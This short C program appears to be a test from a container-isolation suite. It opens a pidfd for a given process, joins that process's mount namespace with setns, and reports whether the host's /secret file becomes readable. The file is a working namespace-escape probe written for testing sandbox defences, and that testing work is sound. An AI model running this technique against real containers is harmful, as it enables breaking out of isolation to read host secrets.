// SPDX-License-Identifier: GPL-2.0-only
// setns(2) with a pidfd enters the namespaces of a process at once, and the
// root directory of its mount namespace with them.
#include <sched.h>

#include "attack.h"

int main(void)
{
	int fd = syscall(SYS_pidfd_open, fact_number("PID"), 0);

	if (fd < 0)
		refused("pidfd_open");
	if (setns(fd, CLONE_NEWNS))
		refused("setns");
	if (file_has_secret(AT_FDCWD))
		worked("/secret of the host is read");
	harmless("setns: another root");
}
